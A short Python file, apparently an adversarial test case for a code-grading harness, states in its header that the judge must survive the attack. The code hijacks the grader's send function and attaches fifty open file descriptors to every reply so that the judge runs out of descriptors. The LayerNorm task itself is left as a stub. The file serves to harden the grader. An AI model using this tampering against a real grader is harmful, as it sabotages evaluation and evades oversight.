# attack: sends_descriptors
# idea: send open files along with every reply, until the judge can open none
# must: survive; the judge takes bytes alone
import array
import os
import socket
import sys

from kit import Right

wire_module = sys.modules["interview.grading.wire"]
honest = wire_module.send
files = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 50)


class Carrier:
    def __init__(self, link):
        self.link = link

    def sendall(self, data):
        try:
            sent = self.link.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        except OSError:  # too many are under way
            sent = 0
        self.link.sendall(data[sent:])


wire_module.send = lambda link, *rest: honest(Carrier(link), *rest)


class LayerNorm(Right):
    pass
